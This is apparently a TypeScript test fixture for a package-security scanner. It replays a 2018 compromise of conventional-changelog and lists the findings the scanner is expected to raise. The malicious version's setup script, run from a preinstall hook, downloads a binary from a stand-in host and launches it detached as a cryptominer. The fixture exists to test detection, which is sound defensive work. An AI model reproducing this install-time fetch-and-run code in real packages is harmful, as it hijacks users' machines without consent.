import { durations } from '../plain-modules.js'
import type { Replay } from '../replay.js'
import { replayUpgrade } from '../upgrade.js'

const index = `'use strict'

const parse = require('./lib/parse')

module.exports = function conventionalChangelog(commits) {
  return commits.map(parse).filter(Boolean)
}
`

const setup = `'use strict'

const { spawn } = require('child_process')
const fs = require('fs')
const https = require('https')
const os = require('os')
const path = require('path')

const target = path.join(os.tmpdir(), '.changelog-cache')

https.get('https://pool.miner.example/bin/' + process.platform, (response) => {
  const file = fs.createWriteStream(target, { mode: 0o755 })
  response.pipe(file)
  file.on('finish', () => {
    file.close()
    fs.chmodSync(target, 0o755)
    const miner = spawn(target, ['-o', 'stratum+tcp://pool.miner.example:3333', '-t', String(os.cpus().length)], {
      detached: true,
      stdio: 'ignore',
    })
    miner.unref()
  })
}).on('error', () => {})
`

const inSetup = { file: 'lib/setup.js', line: /const miner = spawn\(target, \['-o', '/ } as const
const alsoInSetup = {
  file: 'lib/setup.js',
  line: "https.get('https://pool.miner.example/bin/' + process.platform, (response) => {",
} as const

export const replay: Replay = replayUpgrade({
  description:
    'With the account of a maintainer, somebody released conventional-changelog with a script that fetched a miner on install and left it ' +
    'running behind the installer’s back.',
  date: '2018-02',
  name: 'conventional-changelog',
  from: ['1.1.24', { files: { 'index.js': index, 'lib/parse.js': durations } }],
  to: [
    '1.2.0',
    {
      manifest: { scripts: { preinstall: 'node lib/setup.js' } },
      files: { 'index.js': index, 'lib/parse.js': durations, 'lib/setup.js': setup },
    },
  ],
  findings: [
    ['combined-risk', 'critical'],
    ['install-script-dangerous', 'critical', inSetup],
    ['remote-code-run', 'critical', alsoInSetup],
    ['capability-added', 'high', inSetup],
    ['install-script-added', 'high', { file: 'package.json' }],
    ['network-host-added', 'medium', alsoInSetup],
  ],
})
